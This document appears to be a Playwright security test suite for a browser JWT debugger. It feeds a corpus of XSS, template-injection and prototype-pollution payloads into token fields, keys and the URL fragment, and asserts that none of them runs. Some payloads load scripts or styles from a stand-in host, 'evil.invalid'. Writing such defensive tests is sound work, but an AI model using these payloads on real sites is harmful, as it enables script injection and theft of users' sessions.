// Hostile input: XSS, template and prototype payloads in every place a token, a key or the URL can carry text; none may run, load or render.
import type { Locator, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import {
	b64url,
	base64Box,
	headerEditor,
	openEmpty,
	pasteToken,
	payloadEditor,
	secretBox,
	signHs256,
	tokenEditor,
	verdict,
} from './support';

/** Where a payload would send a request if it ever ran or rendered; `.invalid` never resolves (RFC 6761 §6.4). */
const EVIL = 'https://evil.invalid';

/**
 * The corpus. Every payload that could run script sets `window.__pwned` (or `parent.`/`top.`), opens a
 * dialog or loads something from EVIL, and carries its own number so a hit says which one it was.
 */
const CORPUS: readonly (readonly [name: string, text: string])[] = [
	['script tag', '<script>window.__pwned=101</script>'],
	['img onerror', '<img src=x onerror=window.__pwned=102>'],
	['img remote onerror alert', `<img src="${EVIL}/103.png" onerror="alert(103)">`],
	['svg onload', '<svg onload=window.__pwned=104>'],
	['script inside svg', '<svg><script>window.__pwned=105</script></svg>'],
	['javascript: URL', 'javascript:window.__pwned=106'],
	['mixed-case javascript: URL', 'JaVaScRiPt:alert(107)'],
	['javascript: URL with comment and newline', 'javascript://%0Awindow.__pwned=108'],
	['attribute break then script', '"><script>window.__pwned=109</script>'],
	['single-quote break then img', "'><img src=x onerror=alert(110)>"],
	['script end then script', '</script><script>window.__pwned=111</script>'],
	['attribute injection', '" onmouseover="window.__pwned=112" autofocus onfocus="window.__pwned=112" x="'],
	['template literal', '${window.__pwned=113}'],
	['backtick template literal', '`${alert(114)}`'],
	['Angular-style template', "{{constructor.constructor('window.__pwned=115')()}}"],
	['template mix', '{{7*7}} [[7*7]] #{alert(116)} <%= alert(116) %> ${{7*7}}'],
	['Svelte @html block', "{@html '<img src=x onerror=window.__pwned=117>'}"],
	['style end then script', '</style><script>window.__pwned=118</script>'],
	['CSS import and url()', `<style>@import '${EVIL}/119.css';body{background:url(${EVIL}/119.png)}</style>`],
	['textarea end then script', '</textarea><script>window.__pwned=120</script>'],
	['title end then img', '</title><img src=x onerror=window.__pwned=121>'],
	['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=122</script>"></iframe>'],
	['iframe javascript: src', '<iframe src="javascript:parent.__pwned=123"></iframe>'],
	['anchor javascript: href', '<a href="javascript:window.__pwned=124">click me 124</a>'],
	['object data javascript:', '<object data="javascript:window.__pwned=125"></object>'],
	['embed remote src', `<embed src="${EVIL}/126.swf">`],
	['details ontoggle', '<details open ontoggle=window.__pwned=127>x</details>'],
	['input autofocus onfocus', '<input autofocus onfocus=window.__pwned=128>'],
	['body onload', '<body onload=window.__pwned=129>'],
	['video source onerror', '<video><source onerror=window.__pwned=130></video>'],
	['mXSS via math and style', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=131>'],
	['noscript title break', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=132>">'],
	['comment break', '<!--<img src="--><img src=x onerror=window.__pwned=133>">'],
	['base href', `<base href="${EVIL}/134/">`],
	['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=135">'],
	['remote stylesheet link', `<link rel=stylesheet href=${EVIL}/136.css>`],
	['form action', `<form action=${EVIL}/137><button>go 137</button></form>`],
	['data: URL with script', `data:text/html;base64,${b64url('<script>alert(138)</script>')}`],
	['remote script src', `<script src="${EVIL}/139.js"></script>`],
	['img srcset', `<img srcset="${EVIL}/140.png 1x">`],
	['svg animate onbegin', '<svg><animate onbegin=window.__pwned=141 attributeName=x dur=1s>'],
	['img eval(src)', '<img src=x:alert(142) onerror=eval(src)>'],
	['markup end then script', '</code></pre></div></section><script>window.__pwned=143</script>'],
	['HTML entities', '&lt;script&gt;window.__pwned=144&lt;/script&gt;'],
	['percent-encoded script', '%3Cscript%3Ewindow.__pwned%3D145%3C%2Fscript%3E'],
	['backslash-x escaped script', '\\x3cscript\\x3ewindow.__pwned=146\\x3c/script\\x3e'],
	['RTL override filename', '\u202Egnp.<img src=x onerror=window.__pwned=147>exe'],
	['bidi isolates and zero-width', '\u202E\u2066\u200F\u061C <svg onload=alert(148)> \u2069\u200B\uFEFF'],
	['NUL then script', '\u0000<script>window.__pwned=149</script>'],
	['NUL inside tag name', '<scr\u0000ipt>window.__pwned=150</scr\u0000ipt>'],
	['lone surrogates', '\uDBFF<svg/onload=window.__pwned=151>\uD800'],
	['__proto__', '__proto__'],
	['constructor', 'constructor'],
	['prototype', 'prototype'],
	[
		'prototype pollution JSON',
		'{"__proto__":{"__pwned":155},"constructor":{"prototype":{"__pwned":155}},"note":"prototype-pollution-155"}',
	],
	['long repeated img', '<img src=x onerror=window.__pwned=156>'.repeat(500)],
	['very long plain string', `${'A'.repeat(30_000)}157`],
];

interface Hostile {
	readonly name: string;
	readonly text: string;
	/** A piece of the payload that reads the same raw and JSON-escaped: what must show as text. */
	readonly probe: string;
}

/** The longest run without quotes, backslashes, controls or surrogates, at most 80 characters. */
function probeOf(text: string): string {
	const runs = text.split(/["\\\u0000-\u001f\u007f\u2028\u2029\ud800-\udfff]/);
	const longest = runs.reduce((a, b) => (b.length > a.length ? b : a), '');
	return longest.slice(0, 80);
}

const PAYLOADS: readonly Hostile[] = CORPUS.map(([name, text]) => ({ name, text, probe: probeOf(text) }));

/** JSON text of an object with the members exactly as given (repeated or hostile keys included). */
function jsonObject(members: readonly (readonly [string, unknown])[]): string {
	return `{${members.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value)}`).join(',')}}`;
}

const SECRET = 'a-test-secret-that-is-32-bytes!!';
const HEADER = '{"alg":"HS256","typ":"JWT"}';

/** Tags that run, load or submit something; the app has a fixed number of them (one logo, its own scripts and styles). */
const ACTIVE_TAGS = [
	'script',
	'iframe',
	'frame',
	'frameset',
	'img',
	'image',
	'svg',
	'object',
	'embed',
	'video',
	'audio',
	'source',
	'base',
	'form',
	'meta',
	'link',
	'style',
	'math',
	'marquee',
	'noscript',
];

/** What the page did that it must never do because of hostile input. */
interface Guard {
	readonly dialogs: string[];
	readonly errors: string[];
	readonly foreign: string[];
	baseline?: Record<string, number>;
}

/** What `installDetectors` leaves on `window.__hostile`. */
interface Detectors {
	count(): Record<string, number>;
	arm(): void;
	readonly trapped: string[];
}

/**
 * Runs in the page before the app: counts active elements, `on*` attributes, `javascript:`/`data:` URLs
 * and `srcdoc`, and once armed records every active element added or `on*` attribute set, even if
 * removed again. Elements the app makes itself whatever the input are left out (see `isOwn`).
 */
function installDetectors(tags: readonly string[]): void {
	const active = new Set(tags);
	const isOwn = (e: Element): boolean => {
		// CodeMirror draws empty `<img class="cm-widgetBuffer" aria-hidden="true">` fillers beside its widgets.
		if (e.localName === 'img' && e.classList.contains('cm-widgetBuffer') && e.attributes.length === 2)
			return true;
		// The app's own scripts, preloads and styles in <head>, same-origin only: lazy chunks add some later.
		if (e.parentNode === document.head && ['script', 'link', 'style'].includes(e.localName)) {
			const url = e.getAttribute('src') ?? e.getAttribute('href');
			const hasHandler = [...e.attributes].some((a) => a.name.toLowerCase().startsWith('on'));
			return !hasHandler && (url === null || new URL(url, location.href).origin === location.origin);
		}
		return false;
	};
	const count = () => {
		const counts: Record<string, number> = {};
		for (const tag of tags)
			counts[tag] = [...document.getElementsByTagName(tag)].filter((e) => !isOwn(e)).length;
		counts['on* attribute'] = 0;
		counts['javascript: or data: URL attribute'] = 0;
		counts['srcdoc attribute'] = 0;
		for (const element of document.querySelectorAll('*')) {
			for (const attribute of element.attributes) {
				const name = attribute.name.toLowerCase();
				if (name.startsWith('on')) counts['on* attribute']++;
				if (name === 'srcdoc') counts['srcdoc attribute']++;
				if (/^\s*(javascript|data|vbscript):/i.test(attribute.value))
					counts['javascript: or data: URL attribute']++;
			}
		}
		return counts;
	};
	const trapped: string[] = [];
	const check = (element: Element) => {
		const hasHandler = [...element.attributes].some((a) => a.name.toLowerCase().startsWith('on'));
		if ((active.has(element.localName) && !isOwn(element)) || hasHandler)
			trapped.push(element.outerHTML.slice(0, 200));
	};
	const observer = new MutationObserver((records) => {
		for (const record of records) {
			if (record.type === 'attributes' && record.attributeName?.toLowerCase().startsWith('on'))
				trapped.push(`${record.attributeName} set on <${(record.target as Element).localName}>`);
			for (const node of record.addedNodes) {
				if (!(node instanceof Element)) continue;
				check(node);
				node.querySelectorAll('*').forEach(check);
			}
		}
	});
	const arm = () => observer.observe(document, { subtree: true, childList: true, attributes: true });
	Object.defineProperty(window, '__hostile', { value: Object.freeze({ count, arm, trapped }) });
}

/** The counts of `installDetectors` for the page as it is now. */
function countActive(page: Page): Promise<Record<string, number>> {
	return page.evaluate(() => (window as unknown as { __hostile: Detectors }).__hostile.count());
}

/** Starts recording active elements created from now on. */
async function armTrap(page: Page): Promise<void> {
	await page.evaluate(() => (window as unknown as { __hostile: Detectors }).__hostile.arm());
}

/**
 * Installs the listeners, opens the page and records its own active elements as the baseline. Requests
 * to other origins are recorded and aborted, so a failing test never reaches the network either.
 */
async function openGuarded(page: Page): Promise<Guard> {
	const guard: Guard = { dialogs: [], errors: [], foreign: [] };
	page.on('dialog', (dialog) => {
		guard.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
		void dialog.dismiss();
	});
	page.on('pageerror', (error) => guard.errors.push(`pageerror: ${error.message}`));
	page.on('console', (message) => {
		if (message.type() === 'error') guard.errors.push(`console: ${message.text()}`);
	});
	const origin = new URL(test.info().project.use.baseURL!).origin;
	page.on('request', (request) => {
		const url = request.url();
		if (!url.startsWith(`${origin}/`)) guard.foreign.push(url);
	});
	await page.route(
		(url) => url.origin !== origin,
		(route) => route.abort(),
	);
	await page.addInitScript(installDetectors, ACTIVE_TAGS);
	await openEmpty(page);
	// The key generator is a lazy chunk: wait for it, so the baseline holds what the app shows by itself.
	await expect(page.getByText('Generate a key', { exact: true })).toBeVisible();
	guard.baseline = await countActive(page);
	await armTrap(page);
	return guard;
}

/** Fails if anything ran, opened, loaded or was created, after giving late error events a moment to fire. */
async function expectNothingRan(page: Page, guard: Guard): Promise<void> {
	await page.waitForTimeout(100);
	expect(guard.dialogs, 'dialogs opened').toEqual([]);
	expect(guard.errors, 'console errors and uncaught exceptions').toEqual([]);
	expect(guard.foreign, 'requests to other origins').toEqual([]);
	const state = await page.evaluate(() => {
		const globals = window as unknown as Record<string, unknown>;
		const probe = {} as Record<string, unknown>;
		return {
			pwned: globals.__pwned ?? null,
			polluted: ['__pwned', 'polluted'].filter((key) => key in probe),
			trapped: (globals.__hostile as Detectors | undefined)?.trapped ?? ['detectors missing'],
		};
	});
	expect(state.pwned, 'window.__pwned').toBeNull();
	expect(state.polluted, 'Object.prototype polluted').toEqual([]);
	expect(state.trapped, 'active elements or on* attributes created').toEqual([]);
	expect(page.frames(), 'frames').toHaveLength(1);
	expect(await countActive(page), 'active elements in the document').toEqual(guard.baseline);
}

/**
 * The full text of a CodeMirror editor, including lines scrolled out of view: the editor draws only
 * the lines in view (ui-contract.md), so this scrolls it through and collects every line drawn.
 * `content` is the textbox; its parent is CodeMirror's scroller.
 */
async function readEditor(editor: Locator): Promise<string> {
	return editor.evaluate(async (content) => {
		// CodeMirror measures in an animation frame after the scroll event: two frames later the lines are drawn.
		const frames = () =>
			new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
		const scroller = content.parentElement!;
		scroller.scrollIntoView({ block: 'nearest' });
		const lines = new Set<string>();
		for (let top = 0; ;) {
			scroller.scrollTop = top;
			await frames();
			const view = scroller.getBoundingClientRect();
			// The next view starts where this one ends, or past the end of a long wrapped line, which
			// is drawn whole: its text is already collected.
			let next = scroller.scrollTop + scroller.clientHeight - 10;
			for (const line of content.children) {
				const text = line.textContent ?? '';
				lines.add(text);
				const box = line.getBoundingClientRect();
				if (text !== '' && box.top < view.bottom && box.bottom > view.bottom)
					next = Math.max(next, scroller.scrollTop + box.bottom - view.top - 10);
			}
			if (scroller.scrollTop + scroller.clientHeight >= scroller.scrollHeight - 1) break;
			top = next;
		}
		scroller.scrollTop = 0;
		return [...lines].join('\n');
	});
}

/** Fails naming every payload whose probe is not in `text`. */
function expectShown(text: string, payloads: readonly Hostile[], where: string): void {
	const missing = payloads.filter((p) => !text.includes(p.probe)).map((p) => p.name);
	expect(missing, `payloads not shown as text in ${where}`).toEqual([]);
}

/** Waits until the editor's text (all of it, scrolled through) contains every probe. */
async function expectEditorShows(editor: Locator, payloads: readonly Hostile[], where: string) {
	await expect
		.poll(
			async () => {
				const text = await readEditor(editor);
				return payloads.filter((p) => !text.includes(p.probe)).map((p) => p.name);
			},
			{ message: `payloads not shown as text in ${where}`, timeout: 15_000 },
		)
		.toEqual([]);
}

/** Payload `i` of the corpus, wrapping around. */
const at = (i: number): Hostile => PAYLOADS[i % PAYLOADS.length]!;

test('the corpus is large enough and every payload has a distinct probe', () => {
	expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
	for (const p of PAYLOADS) expect(p.probe.length, p.name).toBeGreaterThanOrEqual(5);
	expect(new Set(PAYLOADS.map((p) => p.probe)).size).toBe(PAYLOADS.length);
});

test('header values: kid, jku, x5u, typ and cty', async ({ page }) => {
	const guard = await openGuarded(page);
	const members = ['kid', 'jku', 'x5u', 'typ', 'cty'] as const;
	// One header with every payload in every member (repeated members: all are shown, the last counts).
	const all = jsonObject([
		['seq', 'hostile-all'],
		['alg', 'HS256'],
		...members.flatMap((member) => PAYLOADS.map((p) => [member, p.text] as const)),
	]);
	await pasteToken(page, signHs256(all, '{"sub":"hostile-header"}'));
	await expect(headerEditor(page)).toContainText('"seq": "hostile-all"');
	await expectEditorShows(headerEditor(page), PAYLOADS, 'Header');
	// Then each payload as the one value that counts, of one member each, five payloads a paste.
	for (let i = 0; i * members.length < PAYLOADS.length; i++) {
		const shown = members.map((_, m) => at(i * members.length + m));
		const header = jsonObject([
			['seq', `hostile-${i}`],
			['alg', 'HS256'],
			...members.map((member, m) => [member, shown[m]!.text] as const),
		]);
		await pasteToken(page, signHs256(header, '{"sub":"hostile-header"}'));
		await expect(headerEditor(page)).toContainText(`"seq": "hostile-${i}"`);
		expectShown(await readEditor(headerEditor(page)), shown, `Header, paste ${i}`);
	}
	await expect(page.getByRole('alert')).toHaveCount(0);
	await expectNothingRan(page, guard);
});

test('payload claim values', async ({ page }) => {
	const guard = await openGuarded(page);
	const payload = jsonObject([
		['sentinel', 'hostile-values'],
		...PAYLOADS.map((p, i) => [`c${i}`, p.text] as const),
	]);
	await pasteToken(page, signHs256(HEADER, payload));
	await expect(payloadEditor(page)).toContainText('"sentinel": "hostile-values"');
	await expectEditorShows(payloadEditor(page), PAYLOADS, 'Payload');
	await expectNothingRan(page, guard);
});

test('payload claim names', async ({ page }) => {
	const guard = await openGuarded(page);
	const payload = jsonObject([
		['sentinel', 'hostile-names'],
		...PAYLOADS.map((p, i) => [p.text, i] as const),
	]);
	await pasteToken(page, signHs256(HEADER, payload));
	await expect(payloadEditor(page)).toContainText('"sentinel": "hostile-names"');
	await expectEditorShows(payloadEditor(page), PAYLOADS, 'Payload');
	await expectNothingRan(page, guard);
});

test('nested values, with __proto__ and constructor objects along the way', async ({ page }) => {
	const guard = await openGuarded(page);
	// Written by hand so `__proto__` is a real member, not a prototype change of the literal.
	const items = PAYLOADS.map((p, i) =>
		i % 2 === 0 ? JSON.stringify([p.text]) : `{"__proto__":{"__pwned":${i},"v":${JSON.stringify(p.text)}}}`,
	);
	const payload = `{"sentinel":"hostile-nested","__proto__":{"polluted":true},"constructor":{"prototype":{"__pwned":1}},"deep":{"list":[${items.join(',')}],"more":${jsonObject(PAYLOADS.map((p) => [p.text, { x: [p.text] }] as const))}}}`;
	await pasteToken(page, signHs256(HEADER, payload));
	await expect(payloadEditor(page)).toContainText('"sentinel": "hostile-nested"');
	await expectEditorShows(payloadEditor(page), PAYLOADS, 'Payload');
	await expectNothingRan(page, guard);
});

test('a payload that is text, not JSON', async ({ page }) => {
	const guard = await openGuarded(page);
	const text = ['hostile-text', ...PAYLOADS.map((p) => p.text)].join('\n');
	await pasteToken(page, `${b64url(HEADER)}.${b64url(text)}.${b64url('signature-bytes')}`);
	await expect(payloadEditor(page)).toContainText('hostile-text');
	await expectEditorShows(payloadEditor(page), PAYLOADS, 'Payload (text)');
	await expectNothingRan(page, guard);
});

test('pasted text around a token', async ({ page }) => {
	const guard = await openGuarded(page);
	const token = signHs256(HEADER, '{"sub":"around","name":"Inside the noise"}');
	const texts = PAYLOADS.map((p) => p.text);
	// The same corpus around the token as lines of a log, as JSON fields, and as a URL and headers.
	const contexts = [
		`${texts.join('\n')}\n${token}\n${texts.join('\n')}`,
		JSON.stringify(
			{ ...Object.fromEntries(texts.map((t, i) => [`before${i}`, t])), id_token: token },
			null,
			2,
		) + texts.join(' '),
		`${texts.map((t) => `X-Note: ${t}`).join('\n')}\nAuthorization: Bearer ${token}\nCookie: ${texts.map((t, i) => `c${i}=${t}`).join('; ')}\n${EVIL}/?${texts.map((t, i) => `q${i}=${t}`).join('&')}`,
	];
	for (const [i, text] of contexts.entries()) {
		await pasteToken(page, text);
		await expect(payloadEditor(page)).toContainText('"name": "Inside the noise"');
		await expectEditorShows(tokenEditor(page), PAYLOADS, `Encoded token, context ${i}`);
	}
	await expectNothingRan(page, guard);
});

test('Secret or key as text: one secret made of every payload, and some alone', async ({ page }) => {
	const guard = await openGuarded(page);
	const all = PAYLOADS.map((p) => p.text).join('\n');
	await pasteToken(page, signHs256(HEADER, '{"sub":"secret"}', all));
	await expect(payloadEditor(page)).toContainText('"sub": "secret"');
	await secretBox(page).fill(all);
	await expect(verdict(page)).toContainText('Signature verified');
	expectShown(await secretBox(page).inputValue(), PAYLOADS, 'Secret or key');
	// Alone, the payloads that take another path through the key reader (JSON, NUL, surrogates, size)
	// are each a wrong secret: the verdict names the length, so it is known to be the one just typed.
	const alone = PAYLOADS.filter(
		(p) =>
			p.text.trim().startsWith('{') || /[\u0000\ud800-\udfff\u202e]/.test(p.text) || p.text.length > 1000,
	);
	for (const p of [at(0), at(21), ...alone]) {
		await secretBox(page).fill(p.text);
		if (p.text.trim().startsWith('{')) {
			// Text that starts with `{` is read as a JWK (ui-contract.md): it is not one, and an alert says why.
			await expect(page.getByRole('alert')).toContainText(/JWK|JSON/);
			await expect(verdict(page)).toContainText('Invalid signature');
		} else {
			const bytes = new TextEncoder().encode(p.text).length;
			await expect(verdict(page), p.name).toContainText(`UTF-8, ${bytes} bytes`);
			await expect(verdict(page)).toContainText('Invalid signature');
		}
		expect(await secretBox(page).inputValue(), p.name).toContain(p.probe);
	}
	await expectNothingRan(page, guard);
});

test('Secret or key as a JWK and a JWKS with hostile kids', async ({ page }) => {
	const guard = await openGuarded(page);
	const k = b64url(SECRET);
	const all = PAYLOADS.map((p) => p.text).join(' ');
	await pasteToken(
		page,
		signHs256(
			jsonObject([
				['alg', 'HS256'],
				['kid', at(21).text],
			]),
			'{"sub":"jwk"}',
		),
	);
	await expect(payloadEditor(page)).toContainText('"sub": "jwk"');
	// A lone JWK is used whatever its kid, and the verdict names it by its kid.
	await secretBox(page).fill(JSON.stringify({ kty: 'oct', k, alg: 'HS256', kid: all }));
	await expect(verdict(page)).toContainText('Signature verified');
	expectShown((await verdict(page).textContent()) ?? '', PAYLOADS, 'Signature (JWK)');
	// In a set, the key is chosen by the token's kid, itself a payload.
	const keys = PAYLOADS.map((p) => ({ kty: 'oct', k: b64url(`wrong-${p.name}`), kid: p.text }));
	keys[21] = { kty: 'oct', k, kid: at(21).text };
	await secretBox(page).fill(JSON.stringify({ keys }));
	await expect(verdict(page)).toContainText('Signature verified');
	await expect(verdict(page)).toContainText(at(21).probe);
	// With no kid that matches, the verdict lists every kid the set holds.
	await secretBox(page).fill(JSON.stringify({ keys: keys.filter((_, i) => i !== 21) }));
	await expect(verdict(page)).toContainText('Invalid signature');
	expectShown(
		(await verdict(page).textContent()) ?? '',
		PAYLOADS.filter((_, i) => i !== 21),
		'Signature (JWKS)',
	);
	await expectNothingRan(page, guard);
});

test('the #token= fragment: on load and on hashchange', async ({ page }) => {
	const guard = await openGuarded(page);
	const header = jsonObject([
		['alg', 'HS256'],
		['kid', at(0).text],
		['jku', at(5).text],
		['x5u', at(23).text],
	]);
	const payload = jsonObject([
		['sentinel', 'hostile-fragment'],
		...PAYLOADS.map((p) => [p.text, p.text] as const),
	]);
	const token = signHs256(header, payload);

	// A fresh load with the token in the fragment, other parameters hostile too.
	await page.goto('about:blank');
	await page.goto(`./#token=${token}&state=${encodeURIComponent(at(1).text)}&${at(0).text}`);
	await expect(payloadEditor(page)).toContainText('"sentinel": "hostile-fragment"');
	await armTrap(page);
	await expectEditorShows(payloadEditor(page), PAYLOADS, 'Payload');

	// Hostile text instead of a token: shown as text, with an alert that it is not a token.
	const all = PAYLOADS.map((p) => p.text).join('\n');
	const wellFormed = all.replace(
		/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g,
		'\uFFFD',
	);
	await page.evaluate((hash) => (location.hash = hash), `#token=${encodeURIComponent(wellFormed)}`);
	await expectEditorShows(tokenEditor(page), PAYLOADS, 'Encoded token (from the fragment)');
	await expect(page.getByRole('alert')).toBeVisible();
	// Unencoded, as a link could carry it: the browser escapes what it must, the page decodes it.
	for (const p of [at(0), at(21), at(8)]) {
		await page.evaluate((hash) => (location.hash = hash), `#token=${p.text}`);
		await expect.poll(() => readEditor(tokenEditor(page)), p.name).toContain(p.probe);
	}
	await expectNothingRan(page, guard);
});

// Single cases, a page for the token side and one for the key side: each step is checked before the next.
test('single cases on the token side: picker labels, bad characters, edits, JWE and hex payloads', async ({
	page,
}) => {
	const guard = await openGuarded(page);
	await test.step('tokens picked out of JSON and cookies with hostile names', async () => {
		const one = signHs256(HEADER, '{"sub":"one"}');
		const two = signHs256(HEADER, '{"sub":"two"}');
		await pasteToken(
			page,
			`{${JSON.stringify(at(1).text)}:"${one}",${JSON.stringify(at(3).text)}:"${two}"}\nCookie: ${at(21).text}=${one}; <b>=${two}`,
		);
		const picker = page.getByRole('group', { name: /tokens found/ });
		await expect(picker).toBeVisible();
		await expect(payloadEditor(page)).toContainText('"sub": "one"');
		await picker.getByRole('radio').nth(1).check();
		await expect(payloadEditor(page)).toContainText('"sub": "two"');
		await expectNothingRan(page, guard);
	});
	await test.step('markup where base64url is expected', async () => {
		const header = b64url(HEADER);
		await pasteToken(page, `${header}.eyJzdWIiOiIxIn0<img/src=x/onerror=window.__pwned=901>.sig`);
		await expect(page.getByRole('alert').first()).toBeVisible();
		await expect(tokenEditor(page)).toContainText('<img/src=x/onerror=window.__pwned=901>');
		// Here the token before the markup decodes, with an empty signature: decoded or alerted, both are fine.
		await pasteToken(page, `${header}.eyJzdWIiOiIxIn0.<svg/onload=alert(902)>`);
		await expect(
			payloadEditor(page).getByText('"sub": "1"').or(page.getByRole('alert').first()),
		).toBeVisible();
		await expect(tokenEditor(page)).toContainText('<svg/onload=alert(902)>');
		await expectNothingRan(page, guard);
	});
	await test.step('hostile JSON typed into the Payload and Header editors is encoded as data', async () => {
		await pasteToken(page, signHs256(HEADER, '{"sub":"edit"}'));
		await expect(payloadEditor(page)).toContainText('"sub": "edit"');
		const typed = PAYLOADS.slice(0, 12);
		await payloadEditor(page).fill(jsonObject(typed.map((p) => [p.text, p.text] as const)));
		await expect(tokenEditor(page)).not.toContainText(b64url('{"sub":"edit"}'));
		await headerEditor(page).fill(
			jsonObject([
				['alg', 'HS256'],
				['kid', at(20).text],
				['typ', at(0).text],
			]),
		);
		await expectEditorShows(payloadEditor(page), typed, 'Payload');
		await expectEditorShows(headerEditor(page), [at(20), at(0)], 'Header');
		await expectNothingRan(page, guard);
	});
	await test.step('a JWE header and a hex payload under a hostile header', async () => {
		const jweHeader = jsonObject([
			['alg', at(0).text],
			['enc', at(1).text],
			['zip', at(3).text],
			['kid', at(21).text],
		]);
		await pasteToken(
			page,
			`${b64url(jweHeader)}.${b64url('key')}.${b64url('iv')}.${b64url('ct')}.${b64url('tag')}`,
		);
		await expectEditorShows(headerEditor(page), [at(0), at(1), at(3), at(21)], 'Header (JWE)');
		const hexHeader = jsonObject([
			['alg', 'HS256'],
			['typ', at(4).text],
		]);
		await pasteToken(
			page,
			`${b64url(hexHeader)}.${b64url(new Uint8Array([0xff, 0x3c, 0x73, 0xfe]))}.${b64url('signature')}`,
		);
		await expect(payloadEditor(page)).toContainText('ff 3c 73 fe');
		await expectEditorShows(headerEditor(page), [at(4)], 'Header (hex payload)');
		await expectNothingRan(page, guard);
	});
});

test('single cases on the key side: a header jwk, x5c and jku, hostile PEM, JSON and base64', async ({
	page,
}) => {
	const guard = await openGuarded(page);
	await test.step('a header jwk, x5c and jku full of payloads, verified with on request', async () => {
		const jwk = { kty: 'oct', k: b64url(SECRET), kid: at(0).text, x5t: at(1).text, alg: 'HS256' };
		const header = jsonObject([
			['alg', 'HS256'],
			['jwk', jwk],
			['x5c', [at(2).text]],
			['jku', at(5).text],
			['x5u', at(23).text],
		]);
		await pasteToken(page, signHs256(header, '{"sub":"embedded"}'));
		await expect(payloadEditor(page)).toContainText('"sub": "embedded"');
		await page.getByRole('button', { name: "Verify with the token's own jwk" }).click();
		await expect(verdict(page)).toContainText('Signature verified');
		const signaturePane = page.getByRole('region', { name: 'Signature' });
		await expect(signaturePane.getByText(at(5).probe, { exact: true })).toBeVisible();
		await expect(signaturePane).toContainText(at(23).text);
		await expectNothingRan(page, guard);
	});
	await test.step('hostile PEM, bad JSON and a bad base64 secret give alerts as text', async () => {
		await pasteToken(page, signHs256(HEADER, '{"sub":"keys"}'));
		await expect(payloadEditor(page)).toContainText('"sub": "keys"');
		const keyAlert = page.getByRole('alert');
		await secretBox(page).fill(`-----BEGIN ${at(0).text}-----\n${at(1).text}\n-----END ${at(0).text}-----`);
		await expect(keyAlert).toBeVisible();
		await secretBox(page).fill(`{"kty":${JSON.stringify(at(3).text)}}`);
		await expect(keyAlert).toContainText(at(3).probe);
		await secretBox(page).fill(`{${at(8).text}`);
		await expect(keyAlert).toBeVisible();
		await secretBox(page).fill(at(1).text);
		await base64Box(page).check();
		await expect(keyAlert).toContainText('not valid base64');
		await expectNothingRan(page, guard);
	});
});
